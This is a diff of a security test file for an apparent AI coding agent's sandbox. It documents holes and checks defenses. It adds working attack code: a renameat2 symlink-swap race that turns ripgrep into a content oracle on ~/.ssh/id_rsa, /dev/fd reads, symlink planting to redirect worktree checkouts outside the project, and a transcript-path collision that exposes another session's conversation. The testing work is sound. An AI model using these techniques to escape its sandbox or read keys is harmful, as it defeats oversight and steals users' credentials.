@@ -10,7 +10,7 @@
 // holes are `test.todo('HOLE: …')` plus the full attack, skipped.
 import { after, before, test } from 'node:test';
 import assert from 'node:assert/strict';
-import { execFileSync, spawn, spawnSync, type ChildProcess } from 'node:child_process';
+import { execFileSync, spawnSync, type ChildProcess } from 'node:child_process';
 import {
   closeSync,
   cpSync,
@@ -238,4 +238,166 @@ test('control: the worker code copied into the project really runs (unplanted: n
     timeout: 15_000,
   });
   assert.match(out.stdout, /\d+\.\d+\.\d+/, `the copied CLI runs: ${out.stderr.slice(0, 300)}`);
+});
+
+// ---------------------------------------------------------------------------------------------------
+// H-2. Grep's ripgrep runs as the worker, outside the sandbox. Its root is bound (a descriptor), but
+// below the root rg opens directories by name; src/tools/grepRipgrep.ts knows a directory swapped for
+// a symlink between rg's readdir and its open is walked (the comment at its top) and drops every hit it
+// cannot verify — but counts them in a warning the model gets ("N files not shown: changed while
+// searched"). rg only reports a file whose content matched the agent's pattern: the count is a bit of
+// the content of a file rg read outside the wall (a credential the sandbox denies, another session's
+// transcript in the store), per won race — a regular expression bisects it.
+
+/** Sandboxed Bash keeps swapping `s/d<i>` between a directory and a symlink to `target` for `seconds`. */
+function swapScript(root: string, target: string, seconds: number): string {
+  return `import os, time, ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+def exchange(a, b):  # renameat2(RENAME_EXCHANGE): one atomic swap
+    libc.renameat2(-100, a.encode(), -100, b.encode(), 2)
+os.chdir(${JSON.stringify(root)})
+N = 10
+for i in range(N):
+    os.makedirs(f"s/d{i}", exist_ok=True)
+    open(f"s/d{i}/x.txt", "w").write("nothing to see\\n")
+    os.symlink(${JSON.stringify(target)}, f"s/l{i}")
+# Many files beside them: rg works through them between reading \`s\` and opening each \`d<i>\`.
+for j in range(2000):
+    open(f"s/f{j:05d}.txt", "w").write(("plain text line %d\\n" % j) * 40)
+open("s/started", "w").write("1")
+end = time.time() + ${seconds}
+while time.time() < end:
+    for i in range(N):
+        exchange(f"s/d{i}", f"s/l{i}")
+    time.sleep(0.02)
+`;
+}
+
+/** Grep calls with a pattern the secret matches and one it does not, while the swap runs; what the model saw for each. */
+async function grepDuringSwap(mode: PermissionMode): Promise<{ matching: string[]; other: string[] }> {
+  const root = project();
+  writeFileSync(path.join(root, 'swap.py'), swapScript(root, path.join(home, '.ssh'), 10));
+  const bash = tool(root, mode, 'Bash', { command: 'python3 swap.py', timeout: 120_000 });
+  const started = Date.now();
+  while (!existsSync(path.join(root, 's', 'started')) && Date.now() - started < 30_000)
+    await new Promise((r) => setTimeout(r, 50));
+  const matching: string[] = [];
+  const other: string[] = [];
+  let done = false;
+  void bash.finally(() => (done = true));
+  while (!done) {
+    const dir = path.join(root, 's');
+    matching.push(
+      (await tool(root, mode, 'Grep', { pattern: `BEGIN OPENSSH|${KEY_LINE.slice(0, 12)}`, path: dir })).text,
+    );
+    other.push((await tool(root, mode, 'Grep', { pattern: 'BEGIN OPENSSX', path: dir })).text);
+  }
+  await bash;
+  return { matching, other };
+}
+
+void test.todo(
+  'HOLE: ripgrep (the worker, outside the sandbox) walks a directory sandboxed Bash swaps for a symlink to ~/.ssh; the dropped hits are counted in the result ("N files not shown: changed while searched") — a content oracle on any file the worker can read',
+);
+test('HOLE (attack, dontAsk): what Grep returns depends on the content of ~/.ssh/id_rsa', { skip: HOLE }, async (t) => {
+  if (skip) return t.skip(skip);
+  const { matching, other } = await grepDuringSwap('dontAsk');
+  const told = (texts: string[]) => texts.filter((x) => /not shown/.test(x)).length;
+  // The control: a pattern the key does not hold is never reported, so a report is the key's content.
+  assert.equal(told(other), 0, other.join('\n'));
+  assert.equal(
+    told(matching),
+    0,
+    `${told(matching)} of ${matching.length} Grep results told the model that a file rg read through the swap (~/.ssh/id_rsa) matched its pattern`,
+  );
+  assert.equal(
+    matching.some((x) => x.includes(KEY_LINE)),
+    false,
+  );
+});
+
+// ---------------------------------------------------------------------------------------------------
+// /dev/fd: the file tools run in the worker, so `/dev/fd/<n>` is a file the WORKER holds open (a
+// store blob, another session's spool being written, a TLS key). A file the worker has open outside the
+// project, with a bait line, at a known descriptor.
+
+test('/dev/fd (held): Read/Grep/Glob of /dev/fd/<n>, /dev/fd and links sandboxed Bash made to them never return what the worker holds open', async (t) => {
+  if (skip) return t.skip(skip);
+  const root = project();
+  const secret = path.join(base, 'worker-open-secret.txt');
+  writeFileSync(secret, `${BAIT_ENV.DATABASE_URL}\n`);
+  const fd = openSync(secret, 'r');
+  try {
+    // The oracle: the test process (the worker) really reads it there.
+    assert.match(readFileSync(`/dev/fd/${fd}`, 'utf8'), /BAIT-r30h/);
+    await tool(root, 'dontAsk', 'Bash', {
+      command: `ln -s /dev/fd fdl; ln -s /dev/fd/${fd} one; ln -s /dev/stdin in; mkdir -p deep && ln -s ../fdl deep/up; true`,
+    });
+    let got = '';
+    for (const mode of ['bypassPermissions', 'dontAsk', 'acceptEdits'] as const) {
+      for (const p of [`/dev/fd/${fd}`, `/dev/fd/../fd/${fd}`, '/dev/stdin', path.join(root, 'one')])
+        got += (await tool(root, mode, 'Read', { file_path: p })).text;
+      got += (await tool(root, mode, 'Read', { file_path: path.join(root, 'fdl', String(fd)) })).text;
+      got += (await tool(root, mode, 'Read', { file_path: path.join(root, 'deep', 'up', String(fd)) })).text;
+      for (const p of ['/dev/fd', path.join(root, 'fdl'), path.join(root, 'deep', 'up'), path.join(root, 'one')])
+        got += (await tool(root, mode, 'Grep', { pattern: 'BAIT', path: p, output_mode: 'content' })).text;
+      got += (await tool(root, mode, 'Grep', { pattern: 'BAIT', output_mode: 'content' })).text;
+      got += (await tool(root, mode, 'Glob', { pattern: '**/*', path: path.join(root, 'fdl') })).text;
+    }
+    assert.equal(hasBait(got), false, got.slice(0, 500));
+  } finally {
+    closeSync(fd);
+  }
+});
+
+// ---------------------------------------------------------------------------------------------------
+// The worker's `git worktree add .claude/worktrees/<name>` (EnterWorktree, allowed as the docs suggest for
+// unattended runs) checks `existsSync(dir) || isSymlink(dir)` and then runs git two processes later
+// (worktrees.ts createOrReuseWorktree): a symlink planted at that name in between would make the worker
+// check the branch out into the link's target (an empty directory outside: `~/.ssh`, an autostart dir).
+
+test('worktrees (held): sandboxed Bash cannot plant .claude/worktrees/<name> (symlink or directory), before or racing EnterWorktree; the worker checks out only inside the project', async (t) => {
+  if (skip) return t.skip(skip);
+  for (const mode of ['dontAsk', 'acceptEdits'] as const) {
+    const root = project();
+    const victim = path.join(base, `empty-victim-${mode}`);
+    mkdirSync(victim);
+    const agent = { ctx: initialContext(root) };
+    // The session made a worktree before: `.claude/worktrees` exists.
+    await tool(root, mode, 'EnterWorktree', { name: 'first' }, { allow: ['EnterWorktree', 'ExitWorktree'], agent });
+    assert.ok(existsSync(path.join(root, '.claude', 'worktrees', 'first', 'a.txt')), 'control: the worktree was made');
+    await tool(root, mode, 'ExitWorktree', { action: 'keep' }, { allow: ['EnterWorktree', 'ExitWorktree'], agent });
+    const plant = tool(root, mode, 'Bash', {
+      command: `for i in $(seq 1 400); do ln -sfn ${victim} .claude/worktrees/w 2>/dev/null; rm -f .claude/worktrees/w 2>/dev/null; done; ln -s ${victim} .claude/worktrees/w2; mkdir .claude/worktrees/w3; true`,
+    });
+    await tool(root, mode, 'EnterWorktree', { name: 'w' }, { allow: ['EnterWorktree', 'ExitWorktree'], agent });
+    await plant;
+    await tool(root, mode, 'ExitWorktree', { action: 'keep' }, { allow: ['EnterWorktree', 'ExitWorktree'], agent });
+    await tool(root, mode, 'EnterWorktree', { name: 'w2' }, { allow: ['EnterWorktree', 'ExitWorktree'], agent });
+    assert.deepEqual(readdirSync(victim), [], `${mode}: the worker wrote into the victim directory`);
+    assert.equal(existsSync(path.join(root, '.claude', 'worktrees', 'w3')), false, `${mode}: a directory was planted`);
+  }
+});
+
+// ---------------------------------------------------------------------------------------------------
+// The hook transcript file (`transcript_path`, bound readable into the hook's sandbox) is named by
+// `sessionId.replace(/[^A-Za-z0-9_.-]/g, '_')` (src/hooks/transcript.ts transcriptPathFor): the very
+// legacy scheme G-H1 found for results — `a/b` and `a_b`, and a subagent `p/agent-<toolu>` and a
+// top-level session `p_agent-<toolu>`, share ONE file, rewritten before each hook of either.
+
+void test.todo(
+  'HOLE (low): transcriptPathFor gives two session ids one transcript file (a/b and a_b; a subagent p/agent-x and a top-level p_agent-x): a hook of one reads the other session’s conversation',
+);
+test('HOLE (attack): session `a/b`’s hook transcript path holds what session `a_b` wrote', { skip: HOLE }, async () => {
+  const store = path.join(base, 'store-transcripts');
+  const victimPath = transcriptPathFor(store, 'p_agent-x');
+  await writeTranscriptFile(victimPath, [{ role: 'user', content: `deploy with ${BAIT_ENV.DATABASE_URL}` }], {
+    sessionId: 'p_agent-x',
+    cwd: '/victim',
+  });
+  // What a hook of the subagent `p/agent-x` is given as transcript_path (before its own rewrite).
+  const attackerPath = transcriptPathFor(store, 'p/agent-x');
+  const seen = existsSync(attackerPath) ? readFileSync(attackerPath, 'utf8') : '';
+  assert.equal(hasBait(seen), false, 'the other session’s transcript is at this session’s transcript path');
+  assert.notEqual(transcriptPathFor(store, 'a/b'), transcriptPathFor(store, 'a_b'));
 });
